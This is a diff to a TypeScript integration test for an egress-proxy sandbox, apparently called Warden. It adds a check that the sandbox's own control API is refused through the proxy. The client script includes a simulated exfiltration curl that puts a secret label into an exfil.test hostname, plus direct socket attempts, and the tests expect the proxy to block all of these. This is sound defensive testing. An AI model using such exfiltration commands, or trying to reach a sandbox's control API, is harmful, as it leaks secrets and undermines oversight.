@@ -44,7 +44,7 @@ network:
       timeout: 30s
 `;
 
-function clientScript(o: number, g: number): string {
+function clientScript(o: number, g: number, api: number): string {
   return `#!/bin/bash
 mkdir -p out
 run() { local name=$1; shift; "$@" >"out/$name.out" 2>"out/$name.err"; echo $? >"out/$name.rc"; }
@@ -63,6 +63,7 @@ run git git clone -q http://git.test:${g}/repo.git cloned
 run ask-yes curl -sS -m 40 http://ask-yes.test:${o}/asked
 run ask-no curl -sS -m 40 -i http://ask-no.test:${o}/asked
 run exfil curl -sS -m 20 -i http://${SECRET_LABEL}.exfil.test:${o}/
+run warden-api curl -sS -m 20 -i --noproxy "" -x http://127.0.0.1:3128 http://127.0.0.1:${api}/api/status
 run direct-python python3 -c "
 import socket
 for addr in [('127.0.0.1', ${o}), ('1.1.1.1', 443)]:
@@ -89,6 +90,7 @@ describe('isolated run: real clients through the egress proxy', { skip: problem 
   let origin: TestServer;
   let git: TestServer;
   let holds: Hold[] = [];
+  let apiPort = 0;
   let code: number | null = null;
   let output = '';
   const out = (name: string) => ({
@@ -116,10 +118,11 @@ describe('isolated run: real clients through the egress proxy', { skip: problem 
     ]);
     const policy = join(sb.root, '05-nettest.yaml');
     writeFileSync(policy, POLICY);
-    writeFileSync(join(sb.ws, 'clients.sh'), clientScript(origin.port, git.port));
     const approver = await startApprover(sb, (h) =>
       h.path?.startsWith('ask-yes.test:') ? 'allow' : h.path?.startsWith('ask-no.test:') ? 'deny' : null,
     );
+    apiPort = (JSON.parse(readFileSync(join(sb.state, 'api.json'), 'utf8')) as { port: number }).port;
+    writeFileSync(join(sb.ws, 'clients.sh'), clientScript(origin.port, git.port, apiPort));
     holds = approver.holds;
     try {
       ({ code, output } = await wardenAsync(
@@ -202,6 +205,16 @@ describe('isolated run: real clients through the egress proxy', { skip: problem 
     assert.match(e.out, /^HTTP\/1\.1 403 Forbidden/);
     assert.match(e.out, /rule builtin-exfil-hostname \(band builtin\)/);
     assert.ok(!origin.seen.some((l) => l.includes(SECRET_LABEL)));
+  });
+
+  test("Warden's own HTTP API is refused through the proxy (builtin-warden-api), whatever the rules", () => {
+    const a = out('warden-api');
+    assert.match(a.out, /^HTTP\/1\.1 403 Forbidden[\s\S]*rule builtin-warden-api \(band builtin\)/);
+    assert.ok(
+      connectTo('127.0.0.1').some(
+        (e) => e.path === `127.0.0.1:${apiPort}` && e.ruleId === 'builtin-warden-api',
+      ),
+    );
   });
 
   test('direct connections fail: python sockets and nc to the host loopback and to the internet', () => {
